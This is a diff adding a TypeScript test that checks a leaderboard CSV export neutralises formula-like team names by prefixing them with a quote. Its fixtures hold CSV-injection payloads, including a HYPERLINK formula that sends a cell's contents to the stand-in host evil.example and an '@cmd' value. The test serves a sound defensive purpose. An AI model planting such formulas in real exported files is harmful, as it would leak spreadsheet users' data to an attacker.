@@ -1,0 +1,55 @@
+/** A leaderboard with formula-like team names exports as text (the core's CSV export, end to end). */
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import Papa from 'papaparse';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { createDispatcher, type Dispatch } from '../../src/main/core/dispatch';
+import { MemorySecretStore } from '../../src/main/core/secrets';
+import { openWorkbench, type Workbench } from '../../src/main/core/workbench';
+import type { CsvExport } from '../../src/shared/contract';
+import { type FakePlatform, sendData, startFakePlatform } from '../helpers/fakePlatform';
+
+let server: FakePlatform;
+let wb: Workbench;
+let dispatch: Dispatch;
+
+beforeAll(async () => {
+  server = await startFakePlatform({
+    '/competitions/c1/leaderboard': (_req, res) =>
+      sendData(res, {
+        items: [
+          { rank: 1, team: '=HYPERLINK("https://evil.example/?d="&A1,"Prize")', score: 10 },
+          { rank: 2, team: '@cmd', score: -1 },
+          { rank: 3, team: 'Plain team', score: 0 },
+        ],
+        nextCursor: null,
+      }),
+  });
+  wb = await openWorkbench({
+    dataDir: mkdtempSync(join(tmpdir(), 'wb-csv-')),
+    version: '0.0.0-test',
+    builtinSandbox: { baseUrl: server.baseUrl, apiKey: 'sandbox-key' },
+    secrets: new MemorySecretStore(),
+    heartbeatMs: 60_000,
+    probeMs: 60_000,
+  });
+  dispatch = createDispatcher(wb.handlers);
+});
+afterAll(async () => {
+  await wb.close();
+  await server.close();
+});
+
+it('leaderboard.exportCsv neutralises formulas and keeps numbers', async () => {
+  const res = await dispatch('leaderboard.exportCsv', { table: 'leaderboard', competitionId: 'c1' });
+  expect(res.ok).toBe(true);
+  const { csv, rows } = (res as { value: CsvExport }).value;
+  expect(rows).toBe(3);
+  expect(Papa.parse<string[]>(csv.trim()).data).toEqual([
+    ['rank', 'team', 'score'],
+    ['1', `'=HYPERLINK("https://evil.example/?d="&A1,"Prize")`, '10'],
+    ['2', "'@cmd", '-1'],
+    ['3', 'Plain team', '0'],
+  ]);
+});
